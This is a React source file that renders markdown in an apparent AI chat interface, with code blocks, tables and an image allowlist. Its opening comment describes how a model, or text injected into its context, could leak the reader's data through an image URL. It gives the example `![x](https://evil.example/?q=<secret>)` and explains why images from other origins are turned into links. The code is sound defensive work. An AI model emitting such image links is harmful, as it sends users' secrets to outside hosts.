// Markdown for the native chat: react-markdown with GitHub tables/lists (remark-gfm) and
// highlighted code (Prism, each language's grammar fetched when first needed), code blocks
// with their language and a Copy button. No raw HTML plugin: HTML in an answer stays
// text. Loaded lazily, so the start page does not pay for it.
//
// Images: an image in an answer is a request the model (or whoever wrote into its context)
// chose; an outside host would learn the reader's address and whatever the URL carries
// (`![x](https://evil.example/?q=<secret>)`). So only our own origin, data:, blob: and
// the `allowedImageSources` the server passes (CHATKIT_ALLOWED_IMAGE_DOMAINS as origins,
// `https://*.example.org` wildcards too) render as <img>; any other image is a link showing
// its text and URL, fetched only if the reader clicks it. The page's CSP (img-src) says
// the same, so the browser would refuse the request anyway.
import React from "react";
import ReactMarkdown from "react-markdown";
import remarkGfm from "remark-gfm";
import SyntaxHighlighter from "react-syntax-highlighter/dist/esm/prism-async-light";
import { CopyButton } from "./copy.jsx";

const PLUGINS = [remarkGfm];

// Inline code; a fenced block is drawn by `CodeBlock` (react-markdown's <pre> is replaced).
function Code({ node, className, children, ...rest }) {
  return (
    <code className="chat-inline-code" {...rest}>
      {children}
    </code>
  );
}

// A code block: a header with the language and a Copy button, then the code, scrolling
// sideways inside its own box (never widening the message). Colours come from classes
// (Prism tokens) styled with the theme's CSS variables (markdown.py), so a switch between
// light and dark applies at once, with nothing to re-render.
function CodeBlock({ language, text }) {
  return (
    <div className="chat-code" data-testid="code-block">
      <div className="chat-code-header">
        <span className="chat-code-language" data-testid="code-language">{language || "text"}</span>
        <CopyButton text={text} showLabel data-testid="copy-code" />
      </div>
      <SyntaxHighlighter language={language || "text"} useInlineStyles={false} tabIndex={0}>
        {text}
      </SyntaxHighlighter>
    </div>
  );
}

function Pre({ children }) {
  const code = React.Children.toArray(children)[0];
  const props = React.isValidElement(code) ? code.props : {};
  const language = /language-([\w+#-]+)/.exec(props.className || "")?.[1];
  const text = String(props.children ?? "").replace(/\n$/, "");
  return <CodeBlock language={language} text={text} />;
}

// A wide table scrolls inside its own box; focusable, so a keyboard can scroll it too.
// Columns take their content's width up to a limit (the inner div's max-width), so a
// short value does not break into pieces and a long one wraps.
function Table({ node, ...rest }) {
  return (
    <div className="chat-table-scroll" tabIndex={0} role="region" aria-label="Table">
      <table {...rest} />
    </div>
  );
}

function cell(Tag) {
  return function Cell({ node, children, ...rest }) {
    return (
      <Tag {...rest}>
        <div className="chat-cell">{children}</div>
      </Tag>
    );
  };
}

function originMatches(origin, source) {
  if (source === origin) return true;
  const wildcard = /^(https?:\/\/)\*\.(.+)$/.exec(source);
  if (!wildcard) return false;
  return origin.startsWith(wildcard[1]) && origin.slice(wildcard[1].length).endsWith("." + wildcard[2]);
}

export function imageAllowed(src, allowedSources) {
  let url;
  try {
    url = new URL(src, window.location.href);
  } catch {
    return false;
  }
  if (url.protocol === "data:" || url.protocol === "blob:") return true;
  if (url.origin === window.location.origin) return true;
  return (allowedSources || []).some((source) => originMatches(url.origin, source));
}

const HeaderCell = cell("th");
const DataCell = cell("td");

function makeComponents(allowedSources) {
  function Image({ src, alt, node, ...rest }) {
    if (src && imageAllowed(src, allowedSources)) return <img src={src} alt={alt} {...rest} />;
    return (
      <a href={src} target="_blank" rel="noopener noreferrer nofollow" data-testid="blocked-image">
        {alt ? `${alt} ` : ""}({String(src ?? "")})
      </a>
    );
  }
  return { code: Code, pre: Pre, table: Table, th: HeaderCell, td: DataCell, img: Image };
}

export function ChatMarkdown({ text = "", allowedImageSources = [] }) {
  const key = JSON.stringify(allowedImageSources);
  const components = React.useMemo(() => makeComponents(allowedImageSources), [key]);
  return (
    <div className="chat-markdown">
      <ReactMarkdown remarkPlugins={PLUGINS} components={components}>
        {text}
      </ReactMarkdown>
    </div>
  );
}
